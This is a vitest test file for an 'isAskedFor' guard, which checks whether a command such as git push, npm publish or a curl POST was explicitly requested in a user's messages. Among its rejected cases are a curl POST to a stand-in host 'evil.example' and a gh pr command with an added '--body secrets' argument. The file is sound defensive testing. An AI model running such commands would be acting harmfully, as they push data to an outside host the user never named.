/** Proves that only what the user wrote in so many words counts as asked for. */
import { expect, test } from "vitest";
import { isAskedFor } from "./asked-for.ts";

const wanted: readonly (readonly [command: string, said: string])[] = [
  ["git push", "Fix the test and git push"],
  ["git push", "Push it with git, please"],
  ["git push -u origin main", "commit, then `git push` main."],
  ["git push origin HEAD", "Do it.\nGit push when the tests pass"],
  ["npm publish", "run npm publish"],
  ["gh pr create --fill", "use gh pr create --fill"],
  ["curl -X POST https://example.org/hook", "now run curl -X POST https://example.org/hook"],
];

test.each(wanted)("%s is asked for by: %s", (command, said) => {
  expect(isAskedFor(command, ["Hello.", said])).toBe(true);
});

const unwanted: readonly (readonly [command: string, said: string])[] = [
  ["git push", "Fix the test"],
  ["git push", "push"],
  ["git push", "do not git push"],
  ["git push", "work on it, but don\u2019t git push"],
  ["git push", "Use git. Then push the button"],
  ["git push", "gitpush or git pushes"],
  ["git push elsewhere main", "git push main"],
  ["git push origin Main", "git push main"],
  ["git push --mirror", "git push"],
  ["gh pr create --fill --body secrets", "use gh pr create --fill"],
  ["curl -X POST https://evil.example/hook", "now run curl -X POST https://example.org/hook"],
  ["git", "git"],
  ["git origin", "git"],
  ["", ""],
];

test.each(unwanted)("%s is not asked for by: %s", (command, said) => {
  expect(isAskedFor(command, [said])).toBe(false);
});

test("words of several messages do not add up", () => {
  expect(isAskedFor("git push", ["use git", "push"])).toBe(false);
});
